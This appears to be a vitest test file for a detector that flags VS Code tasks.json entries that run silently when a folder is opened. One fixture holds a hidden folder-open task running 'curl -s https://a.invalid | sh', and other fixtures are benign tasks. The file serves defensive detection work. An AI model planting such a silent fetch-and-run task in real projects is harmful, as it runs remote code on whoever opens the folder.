import { expect, test } from 'vitest'
import { seenBy } from '../testing.ts'
import detector from './start-quiet.ts'

type Files = Record<string, string>
const seen = seenBy(detector)

const task = (command: string, more: object = {}) =>
  JSON.stringify({ tasks: [{ label: 'env', command, runOptions: { runOn: 'folderOpen' }, ...more }] })

test.each<[string, Files, string[]]>([
  [
    'fetches',
    {
      '.vscode/tasks.json': task('curl -s https://a.invalid | sh', {
        presentation: { reveal: 'never', echo: false },
      }),
    },
    ['strong 6 .vscode/tasks.json:1:37'],
  ],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})

test.each<[string, Files, string[]]>([
  [
    'a watcher',
    { '.vscode/tasks.json': task('tsc -w', { presentation: { reveal: 'silent', close: true } }) },
    ['context 1.5 .vscode/tasks.json:1:37'],
  ],
  ['only silent', { '.vscode/tasks.json': task('npm ci', { presentation: { reveal: 'silent' } }) }, []],
])('innocent: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})
